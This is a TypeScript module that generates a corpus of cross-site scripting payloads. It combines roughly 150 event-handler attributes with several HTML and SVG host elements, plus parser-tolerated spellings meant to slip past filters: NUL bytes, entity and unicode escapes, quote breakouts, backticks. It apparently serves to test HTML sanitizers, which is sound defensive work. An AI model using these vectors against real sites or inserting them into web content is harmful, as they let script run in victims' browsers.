/** Attributes that are code: every event that some element hears of, on elements that hear it by themselves. */

const EVENTS =
  'abort activate afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow pagereveal pageswap paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationstart webkitfullscreenchange webkittransitionend wheel'.split(
    ' ',
  );

const BEARERS: readonly ((handler: string) => string)[] = [
  (it) => `<img src=x.gif ${it}="boom()">`,
  (it) => `<p tabindex=0 ${it}="boom()">text</p>`,
  (it) => `<details open ${it}="boom()"><summary ${it}="boom()">more</summary>text</details>`,
  (it) =>
    `<svg ${it}="boom()"><rect width=9 height=9 ${it}="boom()" /><animate ${it}="boom()" attributeName=x dur=1s /></svg>`,
  (it) => `<video ${it}="boom()" controls><source src=x.webm ${it}="boom()"></video>`,
  (it) => `<input autofocus value=x ${it}="boom()">`,
  (it) => `<body ${it}="boom()">text`,
  (it) => `<x-story ${it}="boom()" contenteditable autofocus tabindex=1>text</x-story>`,
];

/** The same attribute as parsers forgive it: what stands around its name, its equals sign and its value. */
const SPELLINGS: readonly ((name: string) => string)[] = [
  (it) => `${it}=boom()`,
  (it) => `${it}='boom()'`,
  (it) => `${it.toUpperCase()} = "boom()"`,
  (it) => `/${it}=boom()//`,
  (it) => `\n${it}\n=\n"boom()"`,
  (it) => `\f${it}\f=boom()`,
  (it) => `a="b"${it}="boom()"`,
  (it) => `a='>'${it}='boom()'`,
  (it) => `${it}="&#98;oom&#40;&#x29;"`,
  (it) => `${it}="\\u0062oom()"`,
  (it) => `${it}="window['bo'+'om']()"`,
  (it) => `${it}\u0000="boom()"`,
  (it) => `on\u0000x ${it}="boom()"`,
  (it) => `${it}=boom\`\``,
  (it) => `xmlns:${it}="boom()" ${it}="boom()"`,
  (it) => `${it}="boom()" ${it}="1"`,
];

export const handlerPayloads = (): string[] => [
  ...EVENTS.flatMap((event) => BEARERS.map((bear) => bear(`on${event}`))),
  ...SPELLINGS.flatMap((spell) => [
    `<img src=x.gif ${spell('onerror')}>`,
    `<svg ${spell('onload')}></svg>`,
    `<details open ${spell('ontoggle')}>x</details>`,
    `<iframe ${spell('onload')}></iframe>`,
    `<IMG/SRC="x.gif"/${spell('onerror')}>`,
    `<style ${spell('onload')}>p{}</style>`,
  ]),
];
